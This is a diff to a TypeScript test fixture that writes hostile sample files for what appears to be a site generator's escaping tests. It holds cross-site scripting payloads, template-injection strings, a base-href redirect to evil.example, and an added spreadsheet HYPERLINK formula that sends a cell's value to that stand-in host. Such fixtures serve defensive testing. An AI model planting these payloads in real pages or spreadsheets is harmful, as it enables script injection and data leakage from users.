@@ -40,6 +40,7 @@ export const hostileTitles: Readonly<Record<string, string>> = {
   'hostile-comment': `--> <img src=x onerror=window.hostile=1> <!-- ]]> ?> <![CDATA[`,
   'hostile-element': `</title></h1></script><script>window.hostile=1</script><b>bold`,
   'hostile-entity': `&lt;img src=x onerror=window.hostile=1&gt; &amp;amp; &#60;b&#62; R&D`,
+  'hostile-formula': `=HYPERLINK("https://evil.example/"&A1;"press | here \\| now")`,
   'hostile-mark': `<mark>marked</mark> <style>*{display:none}</style> <base href=//evil.example>`,
   'hostile-template': '{{constructor.constructor("window.hostile=1")()}} ${window.hostile=1} <%= 1 %> {`x`}',
 };
@@ -90,6 +91,7 @@ export async function writeHostileContent(folder: string): Promise<void> {
     const place = JSON.stringify(title.slice(0, 80).trim());
     await write(`projects/${id}.md`, sampleWith(`title: ${quoted}\nsummary: ${quoted}\nfound_at:\n  - ${place}`));
   }
+  await write('reviews/2026-05-01-hostile.md', hostileReview());
   for (const [path, content] of Object.entries(brokenFiles())) await write(path, content);
   const [removed, before] = removedIds;
   const notice = `---\ndate: 2026-10-30\nground: court_order\nnote: A court ordered the removal of this entry.\nprevious_ids:\n  - ${before}\n---\n`;
@@ -101,6 +103,27 @@ export async function writeHostileContent(folder: string): Promise<void> {
   await symlink(join(folder, 'nowhere.md'), join(folder, 'projects/broken-dangling-link.md'));
 }
 
+/** A review whose every text would do harm on a page that did not show it as text. */
+function hostileReview(): string {
+  const [attribute, comment, element, entity] = Object.values(hostileTitles).map((text) => JSON.stringify(text));
+  return `---
+date: 2026-05-01
+reviewer: ${element}
+independence: ${comment}
+covers:
+  - sample-council
+findings:
+  - principle: 8
+    finding: concern
+    note: ${attribute}
+    action: ${entity}
+    due: 2026-06-01
+charter_changes: ${element}
+example: true
+---
+`;
+}
+
 function brokenFiles(): Record<string, string | Uint8Array> {
   const secret = `title: A project about ${secretWord}\nsummary: It concerns ${secretWord} alone.`;
   return {
@@ -110,6 +133,8 @@ function brokenFiles(): Record<string, string | Uint8Array> {
     'projects/broken-javascript.md': sampleText.replace('---', `---js\n({ title: "${secretWord}" })`),
     'projects/broken-too-large.md': sampleWith(secret) + `${secretWord} `.repeat(6000),
     'projects/broken-utf-8.md': Buffer.concat([Buffer.from(sampleWith(secret)), Buffer.from([0xc3, 0x28])]),
+    'reviews/2026-06-01-broken.md': `---\ndate: 2026-06-01\nreviewer: ${secretWord}\n---\n`,
+    'reviews/no-day.md': hostileReview().replace(/^reviewer: .*$/m, `reviewer: ${secretWord}`),
     [`organisations/${brokenOrganisation}.md`]: `---\nname: ${secretWord}\nkind: ${secretWord}\n---\n`,
   };
 }
